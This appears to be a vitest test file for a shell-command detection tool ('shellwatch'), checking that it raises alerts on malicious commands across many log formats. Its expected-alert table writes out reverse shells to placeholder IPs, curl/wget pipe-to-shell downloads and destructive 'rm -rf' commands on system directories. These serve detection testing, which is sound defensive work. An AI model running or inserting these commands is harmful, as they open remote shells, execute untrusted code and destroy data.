import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { Writable } from 'node:stream';
import { describe, expect, it } from 'vitest';
import { evalCommand } from './eval.command';

/**
 * `shellwatch eval --format auto` over a file mixing every input format, with
 * the fixed rules of test/fixtures/rules/basic: each malicious line gives its
 * alert, pointing at its own line; benign lines give none; the line in no
 * format is reported on stderr and does not stop the run.
 */
const ROOT = resolve(__dirname, '../..');
const RULES = resolve(ROOT, 'test/fixtures/rules/basic');
const MIXED_MALICIOUS = resolve(ROOT, 'test/fixtures/formats/mixed-malicious.log');
const MIXED = resolve(ROOT, 'test/fixtures/formats/mixed.log');

interface Alert {
  rule: { id: string };
  process: { command_line: string };
  event: { module: string; original: string; kind: string };
  user?: { name?: string; id?: string; effective?: { name?: string; id?: string } };
  host?: { name?: string };
  labels?: Record<string, string>;
  shellwatch: { input: { line: number }; log: { source: string } };
}

class Capture extends Writable {
  text = '';
  override _write(chunk: Buffer, _encoding: BufferEncoding, done: () => void): void {
    this.text += chunk.toString();
    done();
  }
}

async function evalFile(input: string): Promise<{ code: number; alerts: Alert[]; err: string }> {
  const out = new Capture();
  const err = new Capture();
  const code = await evalCommand({ rules: RULES, input, format: 'auto' }, out, err);
  const alerts = out.text
    .split('\n')
    .filter((line) => line !== '')
    .map((line) => JSON.parse(line) as Alert);
  return { code, alerts, err: err.text };
}

// One row per expected alert: the line of mixed-malicious.log it must point at
// (an auditd event's is the line of the record that completed it, its PROCTITLE).
const EXPECTED: {
  line: number;
  rule: string;
  module: string;
  command: string;
  user: Alert['user'];
  host?: string;
}[] = [
  { line: 1, rule: 'SW-DST-0001', module: 'snoopy', command: 'rm -rf /boot', user: { id: '0' } },
  {
    line: 2,
    rule: 'SW-EXE-0001',
    module: 'snoopy',
    command: 'bash -c bash -i >& /dev/tcp/198.51.100.9/443 0>&1',
    user: { name: 'alice', effective: { name: 'root', id: '0' } },
    host: 'web01',
  },
  {
    line: 3,
    rule: 'SW-EXE-0002',
    module: 'bash-history',
    command: 'curl -fsSL https://get.example.net/x.sh | sh',
    user: { id: '0' },
  },
  {
    line: 4,
    rule: 'SW-DST-0001',
    module: 'bash-history',
    command: 'sudo rm -rf /var',
    user: { name: 'bob' },
  },
  {
    line: 6,
    rule: 'SW-EXE-0002',
    module: 'ecs',
    command: 'wget -qO- https://x.example/i | bash',
    user: { name: 'dave' },
    host: 'k8s-admin',
  },
  {
    line: 7,
    rule: 'SW-EXE-0001',
    module: 'vssh',
    command: 'exec 5<>/dev/tcp/203.0.113.9/443; cat <&5 | while read l; do $l 2>&5 >&5; done',
    user: { name: 'erin', effective: { name: 'root' } },
    host: 'db02',
  },
  {
    line: 9,
    rule: 'SW-DST-0001',
    module: 'bash-history',
    command: 'sudo rm -rf /usr',
    user: { id: '1000' },
    host: 'web02',
  },
  {
    line: 10,
    rule: 'SW-EXE-0002',
    module: 'history-file',
    command: 'bash <(curl -s https://x.example/i.sh)',
    user: { name: 'frank' },
    host: 'web06',
  },
  {
    line: 11,
    rule: 'SW-DST-0001',
    module: 'bash-history',
    command: 'rm -fr /etc',
    user: { name: 'gina' },
    host: 'web03',
  },
  {
    line: 12,
    rule: 'SW-EXE-0001',
    module: 'bash-history',
    command: 'sh -i >& /dev/udp/198.51.100.7/53 0>&1',
    user: { name: 'henry' },
    host: 'web07',
  },
  {
    line: 17,
    rule: 'SW-DST-0001',
    module: 'auditd',
    command: 'rm -rf /root',
    user: { id: '1003', effective: { id: '0' } },
  },
  {
    line: 18,
    rule: 'SW-EXE-0002',
    module: 'bastion',
    command: 'curl http://x.example/a.sh | sudo bash',
    user: { name: 'ivan', effective: { name: 'root' } },
    host: 'web04',
  },
  {
    line: 19,
    rule: 'SW-DST-0001',
    module: 'teleport',
    command: 'rm -rf /srv',
    user: { name: 'jane@corp.example', effective: { name: 'root' } },
    host: 'db03',
  },
  {
    line: 20,
    rule: 'SW-EXE-0001',
    module: 'teleport',
    command: 'bash -i >& /dev/tcp/192.0.2.10/8080 0>&1',
    user: { name: 'kim@corp.example', effective: { name: 'root' } },
    host: 'db04',
  },
  {
    line: 21,
    rule: 'SW-EXE-0002',
    module: 'osquery',
    command: 'curl -s http://x.example/p | bash',
    user: { name: 'root', id: '0' },
    host: 'web05',
  },
  {
    line: 22,
    rule: 'SW-DST-0001',
    module: 'osquery',
    command: 'rm -rf /lib',
    user: { name: 'root', id: '0' },
    host: 'web09',
  },
];

describe('shellwatch eval --format auto on a mixed file', () => {
  it('alerts on the malicious line of every format, pointing at its line', async () => {
    const { code, alerts, err } = await evalFile(MIXED_MALICIOUS);
    expect(code).toBe(0);
    expect(alerts.map((a) => [a.shellwatch.input.line, a.rule.id])).toEqual(
      EXPECTED.map((e) => [e.line, e.rule]),
    );
    const lines = readFileSync(MIXED_MALICIOUS, 'utf8').split('\n');
    EXPECTED.forEach((expected, i) => {
      const alert = alerts[i];
      expect(alert, `alert for line ${expected.line}`).toBeDefined();
      if (alert === undefined) return;
      expect(alert.event.kind).toBe('alert');
      expect(alert.process.command_line).toBe(expected.command);
      expect(alert.event.module).toBe(expected.module);
      expect(alert.shellwatch.log.source).toBe(expected.module);
      expect(alert.user).toEqual(expected.user);
      expect(alert.host?.name).toBe(expected.host);
      const line = lines[expected.line - 1] ?? '';
      if (expected.module === 'auditd') {
        // The event's records, joined: the SYSCALL (line 13) to the PROCTITLE (line 17).
        expect(alert.event.original).toBe(lines.slice(12, 17).join('\n'));
      } else {
        expect(alert.event.original).toBe(line);
      }
    });
    // Every format of issue 6 has at least one alert.
    expect(new Set(alerts.map((a) => a.event.module))).toEqual(
      new Set([
        'snoopy',
        'bash-history',
        'ecs',
        'vssh',
        'history-file',
        'auditd',
        'bastion',
        'teleport',
        'osquery',
      ]),
    );
    // Envelopes: syslog (RFC 3164, RFC 5424, rsyslog JSON) and filebeat.
    const envelopes = new Map<number, string>([
      [2, 'syslog'],
      [9, 'filebeat/syslog'],
      [10, 'filebeat'],
      [11, 'syslog'],
      [12, 'syslog'],
      [18, 'syslog'],
    ]);
    for (const [line, envelope] of envelopes) {
      const alert = alerts.find((a) => a.shellwatch.input.line === line);
      expect(alert?.labels?.envelope, `envelope of line ${line}`).toBe(envelope);
    }
    expect(err).toContain('line 23: UNKNOWN_FORMAT');
    expect(err).toContain('23 lines, 16 alerts, 1 undecodable');
  });

  it('decodes the mixed.log fixture with no alert from the basic rules and one undecodable line', async () => {
    const { code, alerts, err } = await evalFile(MIXED);
    expect(code).toBe(0);
    expect(alerts).toEqual([]);
    expect(err).toContain('line 17: UNKNOWN_FORMAT');
    expect(err).toContain('17 lines, 0 alerts, 1 undecodable');
  });

  it('reports each record of an auditd event left incomplete at the end, and counts lines without a command', async () => {
    const input = join(mkdtempSync(join(tmpdir(), 'sw-eval-')), 'audit.log');
    writeFileSync(
      input,
      [
        'type=SYSCALL msg=audit(1764088800.000:1): arch=c000003e syscall=59 success=yes exit=0 items=1 ppid=1 pid=5 auid=1000 uid=0 euid=0',
        "type=USER_LOGIN msg=audit(1764088800.000:2): pid=1 uid=0 msg='op=login res=success'",
        'type=CWD msg=audit(1764088800.000:1): cwd="/tmp"',
        '',
      ].join('\n'),
    );
    const { code, alerts, err } = await evalFile(input);
    expect(code).toBe(0);
    expect(alerts).toEqual([]);
    expect(err).toContain('line 1: AUDITD_INCOMPLETE: auditd: event /1764088800.000:1 was closed');
    expect(err).toContain('line 3: AUDITD_INCOMPLETE:');
    expect(err).toContain('missing EXECVE, PROCTITLE, 1 of 1 PATH, EOE');
    expect(err).toContain('3 lines, 0 alerts, 2 undecodable, 1 without a command');
  });
});
